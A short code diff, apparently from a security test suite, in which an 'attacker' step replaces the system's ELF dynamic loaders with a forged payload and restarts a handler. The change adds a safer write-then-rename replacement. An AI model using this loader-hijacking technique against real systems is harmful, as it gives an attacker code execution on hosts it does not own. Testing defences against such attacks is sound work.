@@ -193,9 +193,12 @@ def elf_interp(attacker: Attacker, handler: Handler) -> None:
     """Replace the program that loads libraries, and restart: the blob is static and has none."""
     with attacker.setup():
         forged = attacker.read_file(attacker.payload("false_handler"))
-        attacker.mkdir("/lib64")
+        if "lib64" not in attacker.listdir("/"):
+            attacker.mkdir("/lib64")
     for interpreter in INTERPRETERS:
-        attacker.write_file(interpreter, forged, mode=0o755)
+        # Not in place: what runs has it mapped.
+        attacker.write_file(f"{interpreter}.new", forged, mode=0o755)
+        attacker.rename(f"{interpreter}.new", interpreter)
     handler.restart()
 
 
